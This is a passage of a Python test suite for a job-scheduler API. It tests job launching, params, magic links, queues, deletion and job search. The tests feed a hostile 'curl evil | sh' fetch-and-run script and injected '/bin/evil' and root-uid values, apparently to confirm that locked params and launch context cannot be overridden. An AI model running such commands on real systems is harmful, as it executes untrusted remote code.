"""Launching and reading jobs on an in-process node with real Redis: run_event (id, title, /wait, refusals,
params, sources), the job record, magic links, queued jobs and the active-job views, get_job(s), delete_job,
flush_event_queue and search_jobs (also through a satellite node).

No agent is connected here, so a launched job is queued when a queue limit has room and otherwise completes at
once with code `abort` ("No available servers matching targets.") and lands in the job history.
"""

from __future__ import annotations

import base64
import hashlib
import math
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from aiohttp.test_utils import TestClient

from api.app import RUNNER_OPTIONS, create_app
from api.settings import Settings
from cluster.launcher import Launch, build_job
from cluster.node import NodeRuntime
from storage.connection import Database
from storage.stores import Stores
from tests.authkit import Client, NodeTestServer, Site, ok, wait_until

Headers = dict[str, str]
Body = dict[str, Any]
Job = dict[str, Any]

SCRIPT = "#!/bin/sh\necho from-the-event"
MANUAL = {"type": "manual", "enabled": True}
NO_SERVERS = "No available servers matching targets."
HEAVY = ("actions", "activity", "html", "limits", "procs", "conns", "table", "timelines", "input", "data", "files")
# Event props a job never carries (digest 3.2 launch step 1).
DROPPED = ("title", "enabled", "triggers", "modified", "created", "revision")
QUEUE_LIMITS = [{"type": "job", "enabled": True, "amount": 1}, {"type": "queue", "enabled": True, "amount": 2}]


def event_body(**changes: Any) -> Body:
    body: Body = {"title": "Nightly", "enabled": True, "category": "general", "plugin": "shellplug",
                  "targets": ["main"], "algo": "random", "params": {"script": SCRIPT, "annotate": False},
                  "triggers": [MANUAL]}  # fmt: skip
    body.update(changes)
    return body


def refused(status: int, data: dict[str, Any], code: str, http: int, *fragments: str) -> None:
    assert (status, data.get("code")) == (http, code), (status, data)
    for fragment in fragments:
        assert fragment.lower() in data["description"].lower(), (fragment, data)


async def create(site: Site, headers: Headers, **changes: Any) -> dict[str, Any]:
    event: dict[str, Any] = (await ok(site, "create_event", event_body(**changes), headers))["event"]
    return event


async def run(site: Site, headers: Headers, **body: Any) -> str:
    job_id: str = (await ok(site, "run_event", body, headers))["id"]
    assert job_id.startswith("j"), job_id
    return job_id


async def get_job(site: Site, job_id: str, headers: Headers) -> Job:
    job: Job = (await ok(site, "get_job", {"id": job_id}, headers))["job"]
    return job


async def make_user(site: Site, admin: Headers, username: str, **fields: Any) -> Headers:
    body = {"username": username, "email": f"{username}@example.com", "full_name": username.title(),
            "password": f"pw-{username}", **fields}  # fmt: skip
    status, data = await site.call("admin_create", body, ns="user", headers=admin)
    assert (status, data["code"]) == (200, 0), data
    sid, _ = await site.login(username, f"pw-{username}")
    return {"X-Session-ID": sid}


async def post(client: Client, path: str, body: Body | None, headers: Headers | None = None,
               query: dict[str, str] | None = None) -> tuple[int, dict[str, Any]]:  # fmt: skip
    resp = await client.post(path, json=body or {}, headers=headers or {}, params=query or {})
    data: dict[str, Any] = await resp.json()
    return resp.status, data


def light(job: Job) -> Job:
    return {k: v for k, v in job.items() if k not in HEAVY}


def sha_hex(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


# -- run_event ----------------------------------------------------------------------------------------------------


async def test_run_event_by_id_and_by_title(site: Site, admin: Headers) -> None:
    event = await create(site, admin, title="Backup Nightly")
    await create(site, admin, title="Another")
    by_id = await run(site, admin, id=event["id"])
    by_title = await run(site, admin, title="Backup Nightly")
    assert by_id != by_title
    for job_id in (by_id, by_title):
        job = await get_job(site, job_id, admin)
        assert (job["id"], job["event"], job["state"], job["code"]) == (job_id, event["id"], "complete", "abort")
    # GET works too (query parameters).
    status, data = await site.call("run_event", method="GET", query={"id": event["id"]}, headers=admin)
    assert status == 200 and (await get_job(site, data["id"], admin))["event"] == event["id"]

    status, data = await site.call("run_event", {}, headers=admin)
    refused(status, data, "event", 500, "No criteria")
    status, data = await site.call("run_event", {"title": "No Such Title"}, headers=admin)
    refused(status, data, "event", 500, "No Such Title")
    status, data = await site.call("run_event", {"id": "no_such_event"}, headers=admin)
    assert status != 200 and "no_such_event" in data["description"], data
    # Running needs run_jobs.
    reader = await make_user(site, admin, "reader")
    status, data = await site.call("run_event", {"id": event["id"]}, headers=reader)
    refused(status, data, "access", 403, '"Run Jobs"')


async def test_run_refused_without_manual_trigger_or_when_disabled(site: Site, admin: Headers) -> None:
    snapshot = {"enabled": True, "condition": "error", "type": "snapshot"}
    await ok(site, "update_category", {"id": "general", "actions": [snapshot]}, admin)
    cases = [
        (await create(site, admin, title="No triggers", triggers=[]), "does not allow manual job runs"),
        (await create(site, admin, title="Manual off", triggers=[{**MANUAL, "enabled": False}]),
         "does not allow manual job runs"),
        (await create(site, admin, title="Schedule only", triggers=[{"type": "schedule", "enabled": True,
                                                                      "hours": [3]}]),
         "does not allow manual job runs"),
        (await create(site, admin, title="Disabled", enabled=False), "disabled"),
    ]  # fmt: skip
    for event, fragment in cases:
        status, data = await site.call("run_event", {"id": event["id"]}, headers=admin)
        refused(status, data, "event", 500, fragment)
        found = await ok(site, "search_jobs", {"query": f"event:{event['id']}"}, admin)
        assert found["list"]["length"] == 0
        # A test run skips both checks, and leaves category and universal actions out.
        job = await get_job(site, await run(site, admin, id=event["id"], test=True), admin)
        assert job["test"] is True and job["event"] == event["id"]
        assert job["actions"] == event["actions"] == [] and job["limits"] == []
        assert job["tags"] == ["_error", "_last", "_test"]
    # A non-test run of an enabled event with a manual trigger gets both.
    plain = await create(site, admin, title="Plain")
    job = await get_job(site, await run(site, admin, id=plain["id"]), admin)
    assert "test" not in job and [a["source"] for a in job["actions"]] == ["category", "universal"]


async def test_required_fields_and_params_merge(site: Site, admin: Headers) -> None:
    fields = [{"id": "env", "title": "Env", "type": "text", "required": True, "regex": "^(dev|prod)$"},
              {"id": "region", "title": "Region", "type": "text", "value": "eu-west"}]  # fmt: skip
    params = {"script": SCRIPT, "annotate": False, "x": "1"}
    event = await create(site, admin, fields=fields, params=params)

    for run_params, fragment in (({}, "'env'"), ({"env": ""}, "'env'"), ({"env": "qa"}, "'env'")):
        status, data = await site.call("run_event", {"id": event["id"], "params": run_params}, headers=admin)
        refused(status, data, "api", 400, fragment)
    assert (await ok(site, "search_jobs", {"query": f"event:{event['id']}"}, admin))["list"]["length"] == 0

    # Sparse run params over the event's params, gaps filled from field defaults.
    job = await get_job(site, await run(site, admin, id=event["id"], params={"env": "prod", "x": "2", "y": "3"}),
                        admin)  # fmt: skip
    assert job["params"] == {**params, "env": "prod", "x": "2", "y": "3", "region": "eu-west"}
    # An event param given by the event is kept; a run value wins over a field default.
    job = await get_job(site, await run(site, admin, id=event["id"], params={"env": "dev", "region": "us"}), admin)
    assert job["params"] == {**params, "env": "dev", "region": "us"}
    # Flat `params/key` parameters (query string) are nested.
    status, data = await site.call("run_event", {"id": event["id"]}, query={"params/env": "prod", "params/z": "9"},
                                   headers=admin)  # fmt: skip
    assert status == 200, data
    job = await get_job(site, data["id"], admin)
    assert job["params"] == {**params, "env": "prod", "z": "9", "region": "eu-west"}


async def test_locked_params_and_targets_for_non_admin_runs(site: Site, admin: Headers) -> None:
    event = await create(site, admin, targets=["main"])
    runner = await make_user(site, admin, "runner", privileges={"run_jobs": True}, groups=["main"])
    # A non-admin run cannot change a locked plugin param (shellplug `script`); other params are free.
    job = await get_job(site, await run(site, runner, id=event["id"], params={"script": "curl evil | sh",
                                                                              "annotate": True}), admin)  # fmt: skip
    assert job["params"] == {"script": SCRIPT, "annotate": True} and job["username"] == "runner"
    # An admin may.
    job = await get_job(site, await run(site, admin, id=event["id"], params={"script": "echo admin"}), admin)
    assert job["params"]["script"] == "echo admin"
    # Overridden targets are checked against the caller's groups.
    status, data = await site.call("run_event", {"id": event["id"], "targets": ["db"]}, headers=runner)
    refused(status, data, "access", 403)
    job = await get_job(site, await run(site, runner, id=event["id"], targets=["main", "db"]), admin)
    assert job["targets"] == ["main", "db"]


async def test_source_and_username(site: Site, admin: Headers) -> None:
    event = await create(site, admin)
    plain, key = await site.admin_key(admin["X-Session-ID"], privileges={"run_jobs": True})
    dev = await make_user(site, admin, "dev", privileges={"run_jobs": True})
    expected = {
        await run(site, admin, id=event["id"]): ("user", "admin"),
        await run(site, {"X-API-Key": plain}, id=event["id"]): ("key", key["id"]),
        await run(site, dev, id=event["id"]): ("user", "dev"),
    }
    for job_id, (source, username) in expected.items():
        job = await get_job(site, job_id, admin)
        assert (job["source"], job["username"]) == (source, username), job
    found = await ok(site, "search_jobs", {"query": "source:key", "limit": 10}, admin)
    assert [r["id"] for r in found["rows"]] == [j for j, (s, _) in expected.items() if s == "key"]


async def test_wait_returns_the_completed_job(site: Site, admin: Headers) -> None:
    event = await create(site, admin)
    status, data = await post(site.client, "/api/app/run_event/v1/wait", {"id": event["id"]}, admin)
    assert (status, data["code"]) == (200, 0), data
    job = data["job"]
    assert job["state"] == "complete" and job["code"] == "abort" and job["event"] == event["id"]
    assert await get_job(site, job["id"], admin) == job
    assert "id" not in data  # /wait answers with the job, not the id


async def test_job_record(site: Site, admin: Headers) -> None:
    cat_action = {"enabled": True, "condition": "error", "type": "email", "email": "ops@example.com"}
    cat_limit = {"enabled": True, "type": "time", "duration": 600}
    await ok(site, "create_category", {"id": "ops", "title": "Ops", "actions": [cat_action, {
        "enabled": False, "condition": "success", "type": "snapshot"}], "limits": [cat_limit, {
        "enabled": False, "type": "log", "amount": 10}]}, admin)  # fmt: skip
    own_action = {"enabled": True, "condition": "success", "type": "tag", "tags": ["flag"]}
    own_limit = {"enabled": True, "type": "log", "amount": 1_000_000}
    event = await create(site, admin, title="Record", category="ops", tags=["important"], targets=["main", "db"],
                         actions=[own_action], limits=[own_limit], notes="n", algo="least_cpu")  # fmt: skip
    before = time.time()
    # Launch context can't be smuggled in through the run either.
    job_id = await run(site, admin, id=event["id"], tags=["flag"], command="/bin/evil", uid="root", env={"A": "1"})
    after = time.time()
    job = await get_job(site, job_id, admin)

    assert job["id"] == job_id and len(job_id) == 16
    assert (job["event"], job["source"], job["username"], job["state"], job["code"], job["description"]) == (
        event["id"], "user", "admin", "complete", "abort", NO_SERVERS)  # fmt: skip
    assert before <= job["started"] == job["now"] <= job["completed"] <= after
    assert job["elapsed"] == job["completed"] - job["started"]
    assert job["final"] is True and job["input"] == {}
    assert (job["event_title"], job["event_revision"]) == ("Record", event["revision"])
    assert job["tags"] == ["_error", "_last", "flag", "important"]
    # Enabled category actions and limits are appended with their source, then the universal snapshot.
    assert job["actions"] == [
        own_action,
        {**cat_action, "source": "category"},
        {"enabled": True, "condition": "error", "type": "snapshot", "source": "universal"},
    ]
    assert job["limits"] == [own_limit, {**cat_limit, "source": "category"}]
    # The rest of the event is copied; identity and scheduling props are not.
    for key in ("category", "plugin", "targets", "algo", "notes", "icon", "fields"):
        assert job[key] == event[key], key
    assert job["params"] == event["params"]
    assert not set(DROPPED) & set(job), set(DROPPED) & set(job)
    # Launch context comes from the plugin.
    assert (job["command"], job["kill"]) == ("[shell-plugin]", "all")
    assert "uid" not in job and "env" not in job


async def test_template_expansion_in_params(site: Site, admin: Headers) -> None:
    params = {"script": SCRIPT, "who": "{{event}}", "how": "{{ source }}/{{username}}", "zone": "{{data.region}}",
              "gone": "[{{nope.deeper}}]", "count": 5, "plain": "no braces"}  # fmt: skip
    event = await create(site, admin, params=params)
    job = await get_job(site, await run(site, admin, id=event["id"], input={"data": {"region": "eu"}}), admin)
    assert job["params"] == {"script": SCRIPT, "who": event["id"], "how": "user/admin", "zone": "eu", "gone": "[]",
                             "count": 5, "plain": "no braces"}  # fmt: skip
    assert job["input"] == {"data": {"region": "eu"}}


# -- magic links --------------------------------------------------------------------------------------------------


async def test_magic_link(site: Site, admin: Headers) -> None:
    key = "k3y-for-the-link"
    fields = [{"id": "env", "title": "Env", "type": "text", "value": "dev", "regex": "^(dev|prod)$"}]
    event = await create(site, admin, triggers=[{"type": "magic", "enabled": True, "key": key}], fields=fields)
    other = await create(site, admin, title="Other", triggers=[{"type": "magic", "enabled": True, "key": "other"}])
    secret = site.node.stores.secret_key
    assert secret

    status, data = await post(site.client, f"/api/app/magic/v1/{key}", {"bar": "b", "foo": "body",
                                                                        "input": {"data": {"n": 1}}},
                              query={"foo": "query"})  # fmt: skip
    assert (status, data["code"]) == (200, 0), data
    assert data["stream"] == sha_hex("stream" + data["id"] + secret) and data["description"]
    job = await get_job(site, data["id"], admin)
    assert (job["event"], job["source"], job["username"]) == (event["id"], "magic", "")
    assert job["params"] == {"script": SCRIPT, "annotate": False, "foo": "query", "bar": "b", "env": "dev"}
    assert job["input"] == {"data": {"n": 1}}
    # GET with a query string; no manual trigger needed.
    resp = await site.client.get(f"/api/app/magic/v1/{key}", params={"env": "prod"})
    data = await resp.json()
    assert resp.status == 200, data
    assert (await get_job(site, data["id"], admin))["params"]["env"] == "prod"
    # Each link finds its own event.
    status, data = await post(site.client, "/api/app/magic/v1/other", {})
    assert (await get_job(site, data["id"], admin))["event"] == other["id"]
    # /wait answers with the completed job.
    status, data = await post(site.client, f"/api/app/magic/v1/{key}/wait", {"env": "prod"})
    assert (status, data["job"]["state"], data["job"]["source"]) == (200, "complete", "magic"), data
    # The same record (its completion's actions, here the universal snapshot on error, record their results on it
    # a moment later: their results and meta lines may differ).
    stored = await get_job(site, data["job"]["id"], admin)
    late = ("actions", "activity")
    assert {k: v for k, v in data["job"].items() if k not in late} == {k: v for k, v in stored.items() if k not in late}

    # The caller cannot change a locked plugin param, and field rules apply.
    status, data = await post(site.client, f"/api/app/magic/v1/{key}", {"script": "curl evil | sh"})
    assert status == 200, data
    assert (await get_job(site, data["id"], admin))["params"]["script"] == SCRIPT
    status, data = await post(site.client, f"/api/app/magic/v1/{key}", {"env": "staging"})
    refused(status, data, "api", 400, "'env'")

    total = (await ok(site, "search_jobs", {"query": "source:magic"}, admin))["list"]["length"]
    assert total == 5
    for bad in ("wrong-key", key + "x", "", event["triggers"][0]["token"]):
        status, data = await post(site.client, f"/api/app/magic/v1/{bad}", {})
        assert (status, data) == (400, {"code": "api", "description": "Authentication failed."}), (bad, data)
    # A disabled trigger no longer authenticates; a disabled event is refused.
    await ok(site, "update_event", {"id": other["id"], "triggers": [{**other["triggers"][0], "enabled": False}]},
             admin)  # fmt: skip
    status, data = await post(site.client, "/api/app/magic/v1/other", {})
    assert (status, data["description"]) == (400, "Authentication failed."), data
    await ok(site, "update_event", {"id": event["id"], "enabled": False}, admin)
    status, data = await post(site.client, f"/api/app/magic/v1/{key}", {})
    refused(status, data, "event", 500, "disabled")
    assert (await ok(site, "search_jobs", {"query": "source:magic"}, admin))["list"]["length"] == total


# -- queued jobs and the active views --------------------------------------------------------------------------


async def test_queue_active_jobs_summary_and_flush(site: Site, admin: Headers) -> None:
    event = await create(site, admin, limits=QUEUE_LIMITS, targets=["main", "db"])
    second = await create(site, admin, title="Second", limits=QUEUE_LIMITS)
    plain, _ = await site.admin_key(admin["X-Session-ID"], privileges={"run_jobs": True})
    first_id = await run(site, admin, id=event["id"])
    second_id = await run(site, {"X-API-Key": plain}, id=event["id"])
    third_id = await run(site, admin, id=event["id"])
    other_id = await run(site, {"X-API-Key": plain}, id=second["id"])

    first, second_job, third = [await get_job(site, j, admin) for j in (first_id, second_id, third_id)]
    assert (first["state"], first["position"]) == ("queued", 1)
    assert (second_job["state"], second_job["position"]) == ("queued", 2)
    # xyOps' words when no server is free and the queue has no room either
    assert (third["state"], third["code"], third["description"]) == (
        "complete", "abort", "No available servers matching targets, and the queue is full.")  # fmt: skip
    assert "completed" not in first and "code" not in first
    assert first["started"] < second_job["started"]

    async def active(**filters: Any) -> tuple[list[str], int]:
        data = await ok(site, "get_active_jobs", filters, admin)
        return [r["id"] for r in data["rows"]], data["list"]["length"]

    assert await active() == ([other_id, second_id, first_id], 3)  # newest first by default
    assert await active(state="queued", event=event["id"]) == ([second_id, first_id], 2)
    assert await active(event=second["id"]) == ([other_id], 1)
    assert await active(state="complete") == ([], 0)
    assert await active(sort_by="started", sort_dir=1) == ([first_id, second_id, other_id], 3)
    assert await active(sort_dir=1, offset=1, limit=1) == ([second_id], 3)
    assert await active(offset=2) == ([first_id], 3)
    assert await active(source="key") == ([other_id, second_id], 2)
    rows = (await ok(site, "get_active_jobs", {"event": event["id"]}, admin))["rows"]
    assert rows == [await get_job(site, second_id, admin), first]
    status, data = await site.call("get_active_jobs", method="GET", query={"state": "queued", "limit": "1"},
                                   headers=admin)  # fmt: skip
    assert [r["id"] for r in data["rows"]] == [other_id] and data["list"]["length"] == 3

    summary = (await ok(site, "get_active_job_summary", None, admin))["events"]
    assert summary == {
        event["id"]: {"id": event["id"], "states": {"queued": 2}, "sources": {"user": 1, "key": 1},
                      "targets": {"main": 2, "db": 2}},
        second["id"]: {"id": second["id"], "states": {"queued": 1}, "sources": {"key": 1}, "targets": {"main": 1}},
    }  # fmt: skip
    only = (await ok(site, "get_active_job_summary", {"event": second["id"]}, admin))["events"]
    assert list(only) == [second["id"]]
    assert (await ok(site, "get_active_job_summary", {"source": "user"}, admin))["events"][event["id"]][
        "states"] == {"queued": 1}  # fmt: skip

    # Flushing needs abort_jobs; it drops the event's queued jobs and nothing else.
    runner = await make_user(site, admin, "runner", privileges={"run_jobs": True})
    status, data = await site.call("flush_event_queue", {"id": event["id"]}, headers=runner)
    refused(status, data, "access", 403, '"Abort Jobs"')
    assert await ok(site, "flush_event_queue", {"id": event["id"]}, admin) == {"code": 0, "count": 2}
    assert await active(event=event["id"]) == ([], 0)
    assert await active() == ([other_id], 1)
    for gone in (first_id, second_id):
        status, data = await site.call("get_job", {"id": gone}, headers=admin)
        refused(status, data, "notfound", 404, gone)
    assert (await get_job(site, third_id, admin))["state"] == "complete"  # history is untouched
    assert await ok(site, "flush_event_queue", {"id": event["id"]}, admin) == {"code": 0, "count": 0}
    # The queue fills again from position 1.
    again = await get_job(site, await run(site, admin, id=event["id"]), admin)
    assert (again["state"], again["position"]) == ("queued", 1)
    summary = (await ok(site, "get_active_job_summary", None, admin))["events"]
    assert summary[event["id"]]["states"] == {"queued": 1}


# -- get_job, get_jobs, delete_job ------------------------------------------------------------------------------


async def test_get_job_and_get_jobs(site: Site, admin: Headers) -> None:
    event = await create(site, admin, tags=["important"])
    first_id = await run(site, admin, id=event["id"], input={"data": {"k": "v"}})
    second_id = await run(site, admin, id=event["id"])
    reply = await ok(site, "get_job", {"id": first_id}, admin)
    job = reply["job"]
    digest = hashlib.sha256(("download" + first_id + site.node.stores.secret_key).encode()).digest()
    assert reply["token"] == base64.urlsafe_b64encode(digest[:16]).decode().rstrip("=")
    assert job["input"] == {"data": {"k": "v"}}

    trimmed = (await ok(site, "get_job", {"id": first_id, "remove": "params, actions"}, admin))["job"]
    assert trimmed == {k: v for k, v in job.items() if k not in ("params", "actions")}
    trimmed = (await ok(site, "get_job", {"id": first_id, "remove": ["tags"]}, admin))["job"]
    assert trimmed == {k: v for k, v in job.items() if k != "tags"}
    status, data = await site.call("get_job", method="GET", query={"id": first_id, "remove": "input"}, headers=admin)
    assert status == 200 and data["job"] == {k: v for k, v in job.items() if k != "input"}
    for missing in ("jnosuchjob00000", ""):
        status, data = await site.call("get_job", {"id": missing}, headers=admin)
        assert status in (400, 404) and data["code"] in ("notfound", "api"), data
    status, data = await site.call("get_job", {"id": "jnosuchjob00000"}, headers=admin)
    refused(status, data, "notfound", 404, "jnosuchjob00000")

    second = await get_job(site, second_id, admin)
    data = await ok(site, "get_jobs", {"ids": [second_id, "jnosuchjob00000", first_id]}, admin)
    assert data["jobs"][0] == light(second) and data["jobs"][2] == light(job)
    assert list(data["jobs"][1]) == ["err"] and "jnosuchjob00000" in data["jobs"][1]["err"]
    assert {"actions", "limits", "input"} <= set(job) and not set(HEAVY) & set(data["jobs"][0])
    verbose = await ok(site, "get_jobs", {"ids": f"{first_id},{second_id}", "verbose": True}, admin)
    assert verbose["jobs"] == [job, second]
    status, data = await site.call("get_jobs", method="GET", query={"ids": f"{second_id}, {first_id}"},
                                   headers=admin)  # fmt: skip
    assert [j["id"] for j in data["jobs"]] == [second_id, first_id]
    status, data = await site.call("get_jobs", {}, headers=admin)
    refused(status, data, "api", 400, "ids")

    # Category limits: the job of another category does not exist for the user.
    await ok(site, "create_category", {"id": "ops", "title": "Ops"}, admin)
    ops_job = await run(site, admin, id=(await create(site, admin, category="ops"))["id"])
    limited = await make_user(site, admin, "opsonly", categories=["ops"])
    assert (await get_job(site, ops_job, limited))["category"] == "ops"
    status, data = await site.call("get_job", {"id": first_id}, headers=limited)
    refused(status, data, "notfound", 404)
    data = await ok(site, "get_jobs", {"ids": [first_id, ops_job]}, limited)
    assert "err" in data["jobs"][0] and data["jobs"][1]["id"] == ops_job


async def test_delete_job(site: Site, admin: Headers) -> None:
    event = await create(site, admin)
    queued_event = await create(site, admin, title="Queued", limits=QUEUE_LIMITS)
    keep = await run(site, admin, id=event["id"])
    drop = await run(site, admin, id=event["id"])
    queued = await run(site, admin, id=queued_event["id"])

    async def history(query: str) -> list[str]:
        data = await ok(site, "search_jobs", {"query": query, "limit": 50}, admin)
        assert data["list"]["length"] == len(data["rows"])
        return [r["id"] for r in data["rows"]]

    assert await history(f"event:{event['id']}") == [drop, keep]
    assert await history("tags:_error") == [drop, keep]

    nobody = await make_user(site, admin, "nobody", privileges={"run_jobs": True})
    status, data = await site.call("delete_job", {"id": drop}, headers=nobody)
    refused(status, data, "access", 403, '"Delete Jobs"')
    assert await ok(site, "delete_job", {"id": drop}, admin) == {"code": 0}
    status, data = await site.call("get_job", {"id": drop}, headers=admin)
    refused(status, data, "notfound", 404, drop)
    assert await history(f"event:{event['id']}") == [keep]
    assert await history("tags:_error code:abort") == [keep]
    assert await history("*") == [keep]
    assert "err" in (await ok(site, "get_jobs", {"ids": [drop]}, admin))["jobs"][0]
    status, data = await site.call("delete_job", {"id": drop}, headers=admin)
    refused(status, data, "notfound", 404, drop)

    # An active (queued) job is refused and stays.
    status, data = await site.call("delete_job", {"id": queued}, headers=admin)
    refused(status, data, "job", 500, queued)
    assert (await get_job(site, queued, admin))["state"] == "queued"
    assert [r["id"] for r in (await ok(site, "get_active_jobs", None, admin))["rows"]] == [queued]
    # The deletion is in the activity log.
    log = await ok(site, "search_activity", {"query": f"action:job_delete keywords:{drop}", "limit": 5}, admin)
    assert log["list"]["length"] == 1 and log["rows"][0]["job"]["id"] == drop


# -- search_jobs --------------------------------------------------------------------------------------------------


def ms(value: float) -> int:
    return math.floor(round(value * 1000, 6))


def ordered(jobs: list[Job], sort_by: str = "_id", sort_dir: int = -1) -> list[str]:
    """Expected order: by the sorter (ms), then creation order (started, ms), then id."""

    def key(job: Job) -> tuple[Any, ...]:
        head = () if sort_by == "_id" else (ms(job[sort_by]),)
        return (*head, ms(job["started"]), job["id"])

    return [j["id"] for j in sorted(jobs, key=key, reverse=sort_dir < 0)]


async def seed_history(site: Site, event: dict[str, Any], *, days_ago: float, elapsed: float) -> Job:
    """A successful scheduler job finished in the past (the path an agent-run job takes, which needs agents)."""
    job = await build_job(site.node.stores, Launch(event=event, source="scheduler"))
    completed = time.time() - days_ago * 86400
    job.update(state="complete", code=0, description="Success", started=completed - elapsed, completed=completed,
               elapsed=elapsed, final=True, tags=sorted({*job["tags"], "_success"}))  # fmt: skip
    job["now"] = job["updated"] = job["started"]
    assert await site.node.stores.jobs.launch(site.node.fence(), job)
    return job


async def test_search_jobs(site: Site, admin: Headers, db: Database, tmp_path: Path) -> None:
    await ok(site, "create_category", {"id": "ops", "title": "Ops"}, admin)
    ea = await create(site, admin, title="EA", tags=["important"])
    eb = await create(site, admin, title="EB", category="ops", tags=["flag"])
    plain, _ = await site.admin_key(admin["X-Session-ID"], privileges={"run_jobs": True})
    keyed = {"X-API-Key": plain}
    old = await seed_history(site, eb, days_ago=12, elapsed=7.5)
    older_ok = await seed_history(site, eb, days_ago=10, elapsed=5.0)
    made = [await run(site, admin, id=ea["id"]) for _ in range(3)]
    made.append(await run(site, keyed, id=ea["id"], tags=["flag"]))
    made += [await run(site, admin, id=eb["id"]) for _ in range(2)]
    made.append(await run(site, keyed, id=eb["id"]))
    jobs = [old, older_ok] + [await get_job(site, j, admin) for j in made]
    by_id = {j["id"]: j for j in jobs}
    assert await get_job(site, old["id"], admin) == old

    async def search(headers: Headers = admin, **params: Any) -> dict[str, Any]:
        return await ok(site, "search_jobs", {"limit": 100, **params}, headers)

    async def expect(query: str, pick: Callable[[Job], bool]) -> None:
        data = await search(query=query)
        want = ordered([j for j in jobs if pick(j)])
        assert [r["id"] for r in data["rows"]] == want, query
        assert data["list"]["length"] == len(want), query
        assert want or query.startswith(("code:warning", "event:nope")), f"{query} should match something"

    def day(days_ago: int) -> str:
        return (datetime.now(UTC).date() - timedelta(days=days_ago)).isoformat()

    await expect("*", lambda j: True)
    await expect(f"event:{ea['id']}", lambda j: j["event"] == ea["id"])
    await expect(f"event:{ea['id']}|{eb['id']}", lambda j: True)
    await expect("event:nope", lambda j: False)
    await expect("tags:_error", lambda j: "_error" in j["tags"])
    await expect("tags:_success", lambda j: "_success" in j["tags"])
    await expect("tags:flag", lambda j: "flag" in j["tags"])
    await expect("tags:flag tags:important", lambda j: {"flag", "important"} <= set(j["tags"]))
    await expect("code:abort", lambda j: j["code"] == "abort")
    await expect("code:0", lambda j: j["code"] == 0)
    await expect("code:warning", lambda j: False)
    await expect("source:user|key", lambda j: j["source"] in ("user", "key"))
    await expect("source:key", lambda j: j["source"] == "key")
    await expect("source:scheduler", lambda j: j["source"] == "scheduler")
    await expect("category:ops source:user", lambda j: j["category"] == "ops" and j["source"] == "user")
    await expect("plugin:shellplug", lambda j: True)
    await expect(f"date:>={day(1)}", lambda j: j["completed"] > time.time() - 86400)
    await expect(f"date:<{day(1)}", lambda j: j["completed"] < time.time() - 5 * 86400)
    await expect(f"date:{day(11)}..{day(9)}", lambda j: j["id"] == older_ok["id"])
    await expect(f"date:{day(10)}", lambda j: j["id"] == older_ok["id"])
    await expect(f'(event = "{eb["id"]}" & (source = "key" | code = "0"))',
                 lambda j: j["event"] == eb["id"] and (j["source"] == "key" or j["code"] == 0))  # fmt: skip
    await expect(f'(tags = "important" | source = "scheduler") & date >= "{day(1)}"'.join("()"),
                 lambda j: ("important" in j["tags"] or j["source"] == "scheduler")
                 and j["completed"] > time.time() - 86400)  # fmt: skip

    # Paging: default limit 1, offset/limit windows, total is always the full count.
    everything = ordered(jobs)
    first = await ok(site, "search_jobs", {"query": "*"}, admin)
    assert [r["id"] for r in first["rows"]] == everything[:1] and first["list"]["length"] == len(jobs)
    for offset, limit in ((0, 3), (2, 3), (7, 5), (9, 2), (20, 5)):
        data = await search(query="*", offset=offset, limit=limit)
        assert [r["id"] for r in data["rows"]] == everything[offset : offset + limit], (offset, limit)
        assert data["list"]["length"] == len(jobs)
    # Both directions, and the two sorters.
    assert [r["id"] for r in (await search(sort_dir=1))["rows"]] == ordered(jobs, sort_dir=1)
    for sort_by in ("completed", "elapsed"):
        for sort_dir in (-1, 1):
            data = await search(sort_by=sort_by, sort_dir=sort_dir)
            assert [r["id"] for r in data["rows"]] == ordered(jobs, sort_by, sort_dir), (sort_by, sort_dir)
        page = await search(sort_by=sort_by, offset=1, limit=2)
        assert [r["id"] for r in page["rows"]] == ordered(jobs, sort_by)[1:3]
    assert [r["id"] for r in (await search(sort_by="elapsed"))["rows"]][:2] == [old["id"], older_ok["id"]]
    for bad in ({"sort_by": "title"}, {"query": "(event = "}, {"query": "bogus:1"}, {"limit": -1}):
        status, data = await site.call("search_jobs", bad, headers=admin)
        refused(status, data, "api", 400)

    # select keeps only the named props; verbose keeps the heavy ones; the default drops them.
    data = await search(query=f"event:{eb['id']}", select=["id", "event", "code"])
    assert data["rows"] == [{"id": i, "event": eb["id"], "code": by_id[i]["code"]}
                            for i in ordered([j for j in jobs if j["event"] == eb["id"]])]  # fmt: skip
    data = await search(query="source:key", select="id, tags")
    assert data["rows"] == [
        {"id": i, "tags": by_id[i]["tags"]} for i in ordered([j for j in jobs if j["source"] == "key"])
    ]
    verbose = await search(verbose=True)
    assert verbose["rows"] == [by_id[i] for i in everything]
    assert (await search())["rows"] == [light(by_id[i]) for i in everything]

    # A category-limited user only finds its categories' jobs, whatever it asks.
    limited = await make_user(site, admin, "opsonly", categories=["ops"])
    ops_jobs = [j for j in jobs if j["category"] == "ops"]
    for query, pick in (("*", lambda j: True), (f"event:{ea['id']}", lambda j: False),
                        ("source:user", lambda j: j["source"] == "user"),
                        ('(source = "user" | source = "key")', lambda j: j["source"] in ("user", "key")),
                        ("tags:_error", lambda j: "_error" in j["tags"])):  # fmt: skip
        data = await search(limited, query=query)
        want = ordered([j for j in ops_jobs if pick(j)])
        assert [r["id"] for r in data["rows"]] == want and data["list"]["length"] == len(want), query

    # A satellite answers exactly as the primary does.
    node = NodeRuntime(db, "n2", "http://127.0.0.1:5532", lease_ms=3000,
                       stores=Stores.open(db, secret_key=site.node.stores.secret_key))  # fmt: skip
    satellite = TestClient(NodeTestServer(create_app(Settings(data_dir=tmp_path / "sat"), node), **RUNNER_OPTIONS))
    await satellite.start_server()
    await node.start()
    try:
        await wait_until(lambda: node.stores.bus.healthy and node.election.primary_id == "n1", "satellite")
        assert not node.is_primary
        asks: list[tuple[Headers, Body]] = [
            (admin, {"query": "*", "limit": 100}), (admin, {"query": f"event:{ea['id']}", "limit": 2, "offset": 1}),
            (admin, {"query": "tags:_error code:abort", "sort_by": "completed", "sort_dir": 1, "limit": 50}),
            (admin, {"query": f"date:<{day(1)}", "sort_by": "elapsed", "limit": 50, "verbose": 1}),
            (admin, {"query": '(source = "key")', "select": "id,source,username", "limit": 50}),
            (admin, {"query": f"source:user|key date:>={day(1)}", "limit": 50}),
            (limited, {"query": "*", "limit": 100}), (limited, {"query": f"event:{ea['id']}"}),
            (keyed, {"query": "source:scheduler", "limit": 10}),
        ]  # fmt: skip
        for headers, body in asks:
